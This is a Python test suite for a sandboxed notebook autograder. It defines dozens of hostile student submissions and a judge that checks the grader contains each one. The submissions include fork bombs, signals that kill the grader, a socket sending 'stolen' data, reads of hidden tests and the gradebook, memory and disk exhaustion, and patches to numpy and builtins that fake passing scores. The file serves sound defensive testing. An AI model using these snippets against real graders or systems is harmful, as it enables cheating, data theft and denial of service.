"""The attack suite: hostile submissions, what each must come to, and a judge.

An attack is either code a student appends to a solution cell in the toy course
(``toy_course.py``: ``f``, ``h`` or ``g``; it runs when that cell runs) or a change to the
submitted files. The toy's full marks are 8: ``f``'s tests are worth 4 (``test_f`` 1,
``test_f_partial`` 3), ``h``'s 1 (``test_h``, graded with a correct ``f``) and ``g``'s 3
(``test_g`` 2, ``test_g_quiet`` 1); an outcome below 8 is what the attack's wrong code
deserves, not a penalty. Every attack is handed in next to an honest student; :func:`judge`
then decides, per attack, whether the grader contained it (for ``course autograde``, what
must be absent is looked for in the ``course feedback`` page too). ``test_sandbox.py``
requires ``course autograde`` to contain every one; ``make attacks`` (run this file) also
grades the same class with plain ``nbgrader autograde`` and prints both columns.
"""

import hashlib
import html
import json
import re
import shutil
import socket
import sys
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil
import toy_course as toy

from course.grading import engine, feedback
from course.grading import nbgrader_driver as driver
from course.grading.notebooks import nbgrader_meta, read_notebook

FULL = sum(toy.POINTS.values())
NBGRADER_PATIENCE = 60  # seconds plain nbgrader gets per student before it counts as hung
ERROR_ROW = "error row"  # the submission gets a clear 'not graded' line, not a crash
# what the grader says when the student's own run passes a cell that its judge fails
DISAGREES = "pass in your notebook but not when the grader runs them"


@dataclass
class Attack:
    name: str
    code: str = ""  # appended to a solution cell; {root} and {port} are filled in
    cell: str = "f"  # the solution cell the code is appended to (the toy's f or g)
    files: object = None  # or a function(folder, root) that tampers with the hand-in
    outcome: object = FULL  # the attacker's total score (or a tuple of them), or ERROR_ROW
    present: str = ""  # must appear in the attacker's outputs
    absent: str = ""  # must not appear in the attacker's outputs
    side_effect: str = ""  # a check of the machine after the run: see judge()


def _set_nbformat_3(folder, root):
    nb = read_notebook(folder / "toy.ipynb")
    nbformat.write(nbformat.v3.convert.downgrade(nb), folder / "toy.ipynb", version=3)


def _edit_cells(change):
    def tamper(folder, root):
        nb = read_notebook(folder / "toy.ipynb")
        change(nb)
        nbformat.write(nb, folder / "toy.ipynb")

    return tamper


def _cell(nb, grade_id):
    return next(c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id)


def _duplicate_test_f(nb):
    copy = json.loads(json.dumps(_cell(nb, "test_f")))
    copy["id"] = "dup"
    copy["source"] = "pass"
    nb.cells.insert(1, nbformat.from_dict(copy))


# The grader's processes, to signal them or read their memory: the parent (nbgrader's
# kernel runs under nbgrader; in the sandbox the parent is outside the submission's pid
# namespace, so getppid() is 0) and the execution servers found in /proc (pid 1 there is
# bubblewrap's, but a signal to 1 reaches the submission itself, pid 1 of its namespace).
_SERVERS = (
    "import os, signal\nme = os.readlink('/proc/self')\n"
    "servers = [p for p in os.listdir('/proc') if p.isdigit() and p not in (me, '1') and "
    "b'course.grading.forkserver' in open(f'/proc/{{p}}/cmdline', 'rb').read()]\n"
    "servers += [str(os.getppid())] if os.getppid() > 1 else []\n"
)
# A g that is right on numbers but wrong on arrays: test_g's visible array check must fail.
_WRONG_G = "def g(x):\n    return x * x if np.ndim(x) == 0 else x"
# An h that keeps the f a test cell rebinds (the grader's correct f, lent for each call).
_KEEP_THE_LENT_F = (
    "kept = []\n_own_f = f\n\ndef h(x):\n    if f is not _own_f:\n        kept.append(f)\n"
    "    return f(x) + 1"
)
_SQUARE_WITH_THE_KEPT_F = "def g(x):\n    return kept[0](x) * x / 2  # 2 * x * x / 2"


def _append_to_cells(**codes):
    """A tampering that appends ``codes[cell]`` to each solution cell named."""

    def append(nb):
        for name, code in codes.items():
            _cell(nb, name).source += "\n\n" + code

    return _edit_cells(append)


ATTACKS = [
    # --- reading what a student must not see
    Attack("read_hidden_tests_in_source",
           "try:\n    print(open('{root}/source/toy/toy.ipynb').read())\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent="-4.0, 0.5"),
    Attack("read_gradebook",
           "try:\n    print(open('{root}/gradebook.db', 'rb').read()[:64])\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent="SQLite"),
    Attack("read_other_students",
           "import os\ntry:\n    print(os.listdir('{root}/submitted'))\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked FileNotFoundError", absent="honest"),
    # --- writing and deleting
    Attack("write_into_source",
           "try:\n    open('{root}/source/toy/toy.ipynb', 'a').write(' ')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", side_effect="source unchanged"),
    Attack("delete_another_submission",
           "import os\ntry:\n    os.remove('{root}/submitted/honest/toy/timestamp.txt')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", side_effect="honest timestamp kept"),
    Attack("write_into_the_course_package",
           "import course, os\ntry:\n    open(os.path.join(os.path.dirname(course.__file__), "
           "'evil.txt'), 'w').write('x')\nexcept OSError as e:\n    print('blocked', e.errno)",
           present="blocked 30", side_effect="course package unchanged"),  # EROFS
    # --- the network
    Attack("network_connection",
           "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), "
           "timeout=2)\n    s.sendall(b'stolen')\n    print('connected')\n"
           "except OSError as e:\n    print('blocked', type(e).__name__)",
           present="blocked", absent="connected", side_effect="nothing received"),
    # --- processes and signals
    Attack("kill_the_execution_server", _SERVERS +
           "for p in servers:\n    try:\n        os.kill(int(p), signal.SIGKILL)\n"
           "        print('killed', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked ProcessLookupError", absent="killed"),
    Attack("stop_the_execution_server", _SERVERS +  # the grader must not wait forever
           "for p in servers:\n    try:\n        os.kill(int(p), signal.SIGSTOP)\n"
           "        print('stopped', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked ProcessLookupError", absent="stopped"),
    Attack("read_the_servers_memory", _SERVERS +
           "for p in servers:\n    try:\n        open(f'/proc/{{p}}/mem', 'rb')\n"
           "        print('opened', p)\n    except OSError as e:\n"
           "        print('blocked', type(e).__name__)",
           present="blocked PermissionError", absent="opened"),
    Attack("kill_own_process_group", "import os, signal\nos.killpg(0, signal.SIGKILL)",
           outcome=0, present="DeadKernelError"),
    Attack("exit_the_interpreter", "import os\nos._exit(0)", outcome=0,
           present="DeadKernelError"),
    Attack("crash_with_a_segfault", "import ctypes\nctypes.string_at(0)", outcome=0,
           present="DeadKernelError"),
    Attack("exit_inside_a_graded_call", "def g(x):\n    if np.ndim(x):\n"
           "        raise SystemExit(0)\n    return x * x", cell="g", outcome=FULL - 2,
           present="SystemExit"),
    Attack("os_exit_inside_a_graded_call", "def g(x):\n    import os\n    if np.ndim(x):\n"
           "        os._exit(0)\n    return x * x", cell="g", outcome=FULL - 3,
           present="DeadKernelError"),
    Attack("fork_bomb",
           "import os, time\nforks = 0\ntry:\n    for _ in range(500):\n"
           "        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
           "        forks += 1\nexcept OSError as e:\n    print('blocked after', forks, 'forks')",
           present="blocked after", side_effect="no process left"),
    Attack("background_process_outlives_the_run",
           "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)",
           side_effect="no process left"),
    # --- time, memory, disk, output
    Attack("infinite_loop", "while True:\n    pass", present="CellTimeoutError"),
    Attack("ignore_the_timeout",  # the run goes on: the process is stopped or the cell is
           "import signal\nfor sig in (signal.SIGALRM, signal.SIGINT):\n"
           "    signal.signal(sig, signal.SIG_IGN)\nwhile True:\n    pass",
           outcome=(0, FULL), present="CellTimeoutError"),
    Attack("exhaust_memory",
           "import numpy as np\ntry:\n    big = np.ones(3 * 2**30 // 8)\n    print('allocated')\n"
           "except MemoryError:\n    print('blocked MemoryError')",
           present="blocked MemoryError"),
    Attack("fill_the_disk",
           "try:\n    with open('/tmp/huge', 'wb') as fh:\n        for _ in range(400):\n"
           "            fh.write(b'0' * 2**20)\n"
           "except OSError as e:\n    print('blocked', e.errno)",
           present="blocked 27"),  # EFBIG
    Attack("display_gigabytes",
           "from IPython.display import display\n"
           "for _ in range(10):\n    display({{'text/plain': 'x' * 2**22}}, raw=True)",
           present="a figure was dropped", side_effect="notebook small"),
    Attack("return_a_huge_array", "def g(x):\n    return np.zeros(10**7) if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 3, present="sent more than the grader accepts"),
    Attack("print_gigabytes",
           "import sys\nfor _ in range(40):\n    sys.stdout.write('x' * 2**20)",
           present="output cut", side_effect="notebook small"),
    # --- faking a score: every check that decides one runs outside the student's process
    Attack("patch_numpy_allclose", "np.allclose = lambda *a, **k: True\n" + _WRONG_G, cell="g",
           outcome=FULL - 2, present=DISAGREES),
    Attack("patch_the_course_check_helpers",
           "import course.testing\ncourse.testing.check_array = check_array = "
           "lambda *a, **k: None\n" + _WRONG_G, cell="g", outcome=FULL - 2,
           present=DISAGREES),
    Attack("patch_builtins_for_partial_credit",  # sum() decides test_f_partial's score
           "import builtins\nbuiltins.sum = lambda *a, **k: 3\ndef f(x):\n    return -x",
           outcome=1 + 1 + 3),  # f(0) == 0 is right: 1 of 3 partial points, h's 1, g's 3
    Attack("return_an_int_that_equals_anything",
           "class Liar(int):\n    def __eq__(self, other):\n        return True\n"
           "    __hash__ = int.__hash__\n\ndef f(x):\n    return Liar(7)",
           outcome=1 + 3, present=DISAGREES),  # h's (graded with a correct f) and g's
    Attack("return_a_lying_ndarray_subclass",
           "class Lie(np.ndarray):\n    def __eq__(self, other):\n"
           "        return np.ones(np.shape(other), bool)\n"
           "    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
           "    __rsub__ = __sub__\n"
           "    def __abs__(self):\n        return np.zeros(self.shape)\n\n"
           "def g(x):\n    return np.zeros(np.shape(x)).view(Lie) if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 2),
    Attack("return_an_object_with_a_lying_array",
           "class Fake:\n    def __array__(self, dtype=None, copy=None):\n"
           "        return np.array([0.0, 1.0, 4.0])\n"
           "    def __eq__(self, other):\n        return True\n\n"
           "def g(x):\n    return Fake() if np.ndim(x) else x * x",
           cell="g", outcome=FULL - 2, present="cannot be checked outside"),
    # --- the judge looks up the names a test uses in the student's process: a new surface
    Attack("a_huge_nested_list_where_a_function_should_be",
           "g = [list(range(10**6))] * 12", cell="g", outcome=FULL - 3,
           present="DeadKernelError"),  # too slow to send, or too large: the process stops
    Attack("a_value_nested_too_deep",
           "g = []\nfor _ in range(10000):\n    g = [g]", cell="g", outcome=FULL - 3,
           present="nested more than"),
    Attack("a_class_whose_methods_lie",
           "class Liar:\n    def __eq__(self, other):\n        return True\n"
           "    def __array__(self, dtype=None, copy=None):\n"
           "        return np.array([0.0, 1.0, 4.0])\n"
           "\ndef g(x):\n    return Liar()",
           cell="g", outcome=FULL - 3, present="cannot be checked outside"),
    Attack("a_module_that_is_not_installed",  # the judge must never import the student's file
           "import sys\nopen('evil_mod.py', 'w').write(\"import sys\\nif 'course.grading.judge' "
           "in sys.modules:\\n    print('JUDGE IMPORTED ME')\\n\")\nsys.path.insert(0, '.')\n"
           "import evil_mod\ng = evil_mod", cell="g", outcome=FULL - 3,
           present="is not an installed module", absent="JUDGE IMPORTED ME"),
    Attack("a_module_name_that_is_not_a_name",
           "import types\ng = types.ModuleType('os; import antigravity')", cell="g",
           outcome=FULL - 3, present="is not a module name"),
    Attack("replace_ipython_run_cell",  # every later cell runs 'pass' inside the notebook
           "def f(x):\n    return -x\n\nip = get_ipython()\nreal_run_cell = ip.run_cell\n"
           "ip.run_cell = lambda raw_cell, *a, **k: real_run_cell('pass', *a, **k)",
           outcome=1, present=DISAGREES),  # h and g never exist; f(0) == 0
    Attack("hard_code_the_visible_answer",
           "def g(x):\n    return np.array([0.0, 1.0, 4.0]) if np.ndim(x) else 9",
           cell="g", outcome=FULL - 2),  # the visible checks pass, the hidden ones do not
    Attack("read_hidden_tests_from_the_history",
           "ip = get_ipython()\nip.events.register('post_run_cell', "
           "lambda result: print('SEEN', result.info.raw_cell, list(ip.user_ns['In'])))",
           cell="g", present="SEEN", absent="-4.0, 0.5"),
    Attack("inspect_the_caller",
           "import sys\n\ndef g(x):\n    frame = sys._getframe(1)\n"
           "    print('CALLER', frame.f_code.co_filename, sorted(frame.f_globals)[:50])\n"
           "    return x * x", cell="g", present="CALLER", absent="-4.0, 0.5"),
    # --- the notebook file itself
    Attack("broken_json",
           files=lambda folder, root: (folder / "toy.ipynb").write_text('{"cells": ['),
           outcome=ERROR_ROW),
    Attack("binary_garbage",
           files=lambda folder, root: (folder / "toy.ipynb").write_bytes(bytes(range(256)) * 8),
           outcome=ERROR_ROW),
    Attack("older_nbformat", files=_set_nbformat_3),  # upgraded and graded, as nbgrader does
    Attack("renamed_notebook",
           files=lambda folder, root: (folder / "toy.ipynb").rename(folder / "mine.ipynb"),
           outcome=ERROR_ROW),
    Attack("edit_a_test_cell", files=_edit_cells(lambda nb: setattr(
        _cell(nb, "test_g"), "source", "pass"))),  # restored: the honest code still passes
    Attack("delete_a_test_cell", files=_edit_cells(lambda nb: nb.cells.remove(
        _cell(nb, "test_g")))),  # put back and graded
    Attack("raise_the_points", files=_edit_cells(lambda nb: _cell(
        nb, "test_f").metadata.nbgrader.update(points=100))),
    Attack("turn_a_test_into_markdown", files=_edit_cells(lambda nb: setattr(
        _cell(nb, "test_f"), "cell_type", "markdown"))),
    Attack("duplicate_a_grade_id", files=_edit_cells(_duplicate_test_f)),
    Attack("add_files",  # handed-in files are there, as in nbgrader, but shadow nothing
           "import importlib.util\norigin = importlib.util.find_spec('numpy').origin\n"
           "print('numpy', 'shadowed' if origin.endswith('/numpy.py') else 'intact')",
           files=lambda folder, root: (folder / "numpy.py").write_text("allclose = None\n"),
           present="numpy intact"),
    # --- lending and hidden calls (issue 16)
    Attack("keep_a_lent_reference_for_a_later_cell",  # g computes with the grader's f
           files=_append_to_cells(h=_KEEP_THE_LENT_F, g=_SQUARE_WITH_THE_KEPT_F),
           outcome=FULL - 3),  # g has no code of its own: test_g and test_g_quiet fail
    Attack("keep_a_lent_reference_for_a_later_call",  # test_h's second call uses the first's
           files=_append_to_cells(h=_KEEP_THE_LENT_F.replace("f(x) + 1", "kept[0](x) + 1")),
           outcome=FULL - 1, present="WireError"),  # the hidden call of test_h fails
    Attack("record_hidden_arguments_in_a_global",
           "seen = []\n\ndef g(x):\n    seen.append(np.asarray(x).tolist())\n"
           "    if np.ndim(x) == 0 and x == 1:  # plot_g, a later cell\n"
           "        print('SEEN', seen)\n    return x * x",
           cell="g", present="SEEN", absent="-4.0, 0.5"),
    Attack("record_hidden_arguments_outside_the_process",  # files, a kept file, shared memory
           "import mmap\nimport os\n\nkept_file = open('kept.txt', 'a')\n"
           "shared = mmap.mmap(-1, 4096)\n\n"
           "def g(x):\n    seen = str(np.asarray(x).tolist()) + ';'\n"
           "    for path in ('seen.txt', '/tmp/seen.txt'):\n        try:\n"
           "            with open(path, 'a') as fh:\n                fh.write(seen)\n"
           "        except OSError:\n            pass\n"
           "    kept_file.write(seen)\n    kept_file.flush()\n"
           "    shared.write(seen.encode()[: 4096 - shared.tell()])\n"
           "    if np.ndim(x) == 0 and x == 1:  # plot_g, a later cell\n"
           "        for path in ('seen.txt', '/tmp/seen.txt', 'kept.txt'):\n"
           "            if os.path.exists(path):\n"
           "                print('SEEN in', path, open(path).read())\n"
           "        print('SEEN in memory', shared[:shared.tell()].decode())\n"
           "    return x * x",
           cell="g", present="SEEN in memory", absent="-4.0, 0.5"),
    Attack("print_hidden_arguments",  # stdout and stderr: test_g and test_g_quiet fail (stderr)
           "import sys\n\ndef g(x):\n    print('ARGS', np.asarray(x).tolist())\n"
           "    print('ARGS', np.asarray(x).tolist(), file=sys.stderr)\n    return x * x",
           cell="g", outcome=FULL - 3, present="during a hidden test", absent="-4.0, 0.5"),
    Attack("raise_hidden_arguments",  # in the message of an error: test_g's hidden check fails
           "def g(x):\n    if np.ndim(x) and len(x) == 2:\n"
           "        raise ValueError('ARGS ' + str(np.asarray(x).tolist()))\n    return x * x",
           cell="g", outcome=FULL - 2, present="during a hidden test", absent="-4.0, 0.5"),
]  # fmt: skip


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.received = []
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100))
                except OSError:
                    pass

    def close(self):
        self._stop.set()
        self._thread.join()
        self.server.close()


def tree_digest(folder):
    h = hashlib.sha256()
    for path in sorted(Path(folder).rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            h.update(str(path).encode() + path.read_bytes())
    return h.hexdigest()


def outputs_text(nb):
    """Everything a notebook's code cells printed, displayed or raised, as one string."""
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts += [out.get("text", ""), out.get("ename", ""), out.get("evalue", "")]
            parts.append(out.get("data", {}).get("text/plain", ""))
    return "\n".join(parts)


def feedback_text(page):
    """What a ``course feedback`` page shows but the student's own code, as plain text."""
    shown = re.sub(r"<pre><code>.*?</code></pre>", "", page.read_text(), flags=re.DOTALL)
    return html.unescape(shown)


def leftover_processes():
    return [
        p for p in psutil.process_iter(["cmdline"])
        if (p.info["cmdline"] or [])[:2] == ["sleep", "1234"]
        or "course.grading.forkserver" in (p.info["cmdline"] or [])
    ]  # fmt: skip


def build_class(root, port):
    """Hand in the honest student and every attack in the toy course at ``root``."""
    toy.hand_in(root, ["passes_all"])
    (root / "submitted" / "passes_all").rename(root / "submitted" / "honest")
    honest = root / "submitted" / "honest" / toy.ASSIGNMENT
    for attack in ATTACKS:
        folder = root / "submitted" / attack.name / toy.ASSIGNMENT
        shutil.copytree(honest, folder)
        if attack.code:
            nb = read_notebook(folder / "toy.ipynb")
            _cell(nb, attack.cell).source += "\n\n" + attack.code.format(root=root, port=port)
            nbformat.write(nb, folder / "toy.ipynb")
        if attack.files:
            attack.files(folder, root)


def snapshot(root):
    """What the side-effect checks compare against after the run."""
    import course

    return {
        "source": tree_digest(root / "source"),
        "package": tree_digest(Path(course.__file__).parent),
    }


def judge(root, results, errors, before, listener):
    """``{attack: (contained, why)}`` after a run that produced ``results`` and ``errors``."""
    import course

    verdicts = {}
    for attack in ATTACKS:
        problems = []
        if "hung" in errors.get(attack.name, ""):
            problems.append(errors[attack.name])
        elif attack.outcome == ERROR_ROW:
            if attack.name not in errors:
                problems.append("no error row")
        elif attack.name not in results:
            problems.append(f"not graded: {errors.get(attack.name, 'missing')}")
        elif results[attack.name].score not in (
            attack.outcome if isinstance(attack.outcome, tuple) else (attack.outcome,)
        ):
            problems.append(f"score {results[attack.name].score:g}, not {attack.outcome}")
        path = root / "autograded" / attack.name / toy.ASSIGNMENT / "toy.ipynb"
        if path.is_file() and (attack.present or attack.absent):
            text = outputs_text(read_notebook(path))
            if attack.present and attack.present not in text:
                problems.append(f"{attack.present!r} not in the outputs")
            if attack.absent and attack.absent in text:
                problems.append(f"{attack.absent!r} leaked into the outputs")
        page = root / "feedback" / attack.name / toy.ASSIGNMENT / "toy.html"
        if attack.absent and page.is_file() and attack.absent in feedback_text(page):
            problems.append(f"{attack.absent!r} leaked into the feedback page")
        check = attack.side_effect
        if check == "source unchanged" and tree_digest(root / "source") != before["source"]:
            problems.append("source/ was changed")
        if check == "course package unchanged" and (
            tree_digest(Path(course.__file__).parent) != before["package"]
        ):
            problems.append("the course package was changed")
        if (
            check == "honest timestamp kept"
            and not (root / "submitted" / "honest" / toy.ASSIGNMENT / "timestamp.txt").is_file()
        ):
            problems.append("another student's file was deleted")
        if check == "nothing received" and listener.received:
            problems.append("data reached a server outside")
        if check == "no process left" and leftover_processes():
            problems.append("a process outlived the run")
        if check == "notebook small" and path.is_file() and path.stat().st_size > 10 * 2**20:
            problems.append("the autograded notebook is huge")
        verdicts[attack.name] = (not problems, "; ".join(problems))
    return verdicts


def _clean_up():
    """Undo what an uncontained attack may have left on this machine."""
    import course

    (Path(course.__file__).parent / "evil.txt").unlink(missing_ok=True)
    Path("/tmp/huge").unlink(missing_ok=True)
    for proc in leftover_processes():
        proc.kill()


def _plain_nbgrader(root):
    """Grade with the real ``nbgrader autograde`` command, one process per student.

    An attack may kill the grading process itself (in a class run, nobody after that
    student would be graded); one process per student keeps each verdict about its attack.
    """
    import os
    import subprocess

    bin_dir = Path(sys.executable).parent
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}"}
    hung = set()
    for folder in sorted((root / "submitted").iterdir()):
        command = [str(bin_dir / "nbgrader"), "autograde", toy.ASSIGNMENT, "--student"]
        proc = subprocess.Popen(
            [*command, folder.name],
            cwd=root,
            env=env,
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            proc.wait(timeout=NBGRADER_PATIENCE)
        except subprocess.TimeoutExpired:  # e.g. its process was stopped by the attack
            os.killpg(proc.pid, 9)
            proc.wait()
            hung.add(folder.name)
    results, errors = {}, {}
    with driver.nbgrader_api(root) as api:
        for folder in sorted((root / "submitted").iterdir()):
            graded = root / "autograded" / folder.name / toy.ASSIGNMENT / f"{toy.NOTEBOOK}.ipynb"
            try:
                if not graded.is_file():
                    raise FileNotFoundError(graded)
                results[folder.name] = driver.assignment_result(api, toy.ASSIGNMENT, folder.name)
            except Exception as exc:  # not graded, for whatever reason
                errors[folder.name] = f"not graded ({type(exc).__name__})"
            if folder.name in hung:
                results.pop(folder.name, None)
                errors[folder.name] = f"nbgrader hung for {NBGRADER_PATIENCE} s and was killed"
    return results, errors


def run(root, listener, grader):
    """Build the class at ``root``, grade it with ``grader``, and judge every attack.

    Args:
        grader: ``"course"`` (course autograde, sandboxed) or ``"nbgrader"``.
    """
    toy.make_course(root, timeout=2)
    build_class(root, listener.port)
    before = snapshot(root)
    try:
        if grader == "course":
            summary = engine.autograde(root, toy.ASSIGNMENT)
            results, errors = summary.results, summary.errors
            feedback.write_feedback(root, toy.ASSIGNMENT)
        else:
            results, errors = _plain_nbgrader(root)
        return results, errors, judge(root, results, errors, before, listener)
    finally:
        _clean_up()


def main():
    """``make attacks``: both graders against the whole suite, as a Markdown table."""
    columns = {}
    with tempfile.TemporaryDirectory(prefix="course-attacks-") as tmp:
        for grader in ("course", "nbgrader"):
            print(f"grading the attack class with {grader} autograde ...", file=sys.stderr)
            listener = Listener()
            try:
                columns[grader] = run(Path(tmp) / grader, listener, grader)[2]
            finally:
                listener.close()
    print("| attack | course autograde | plain nbgrader autograde |")
    print("|---|---|---|")
    for attack in ATTACKS:
        cells = []
        for grader in ("course", "nbgrader"):
            ok, why = columns[grader][attack.name]
            cells.append("contained" if ok else f"**not contained**: {why}")
        print(f"| {attack.name} | {cells[0]} | {cells[1]} |")
    missed = [a.name for a in ATTACKS if not columns["course"][a.name][0]]
    print(
        f"\ncourse autograde contained {len(ATTACKS) - len(missed)} of {len(ATTACKS)}; "
        f"nbgrader contained {sum(ok for ok, _ in columns['nbgrader'].values())}."
    )
    return 1 if missed else 0


if __name__ == "__main__":
    sys.exit(main())
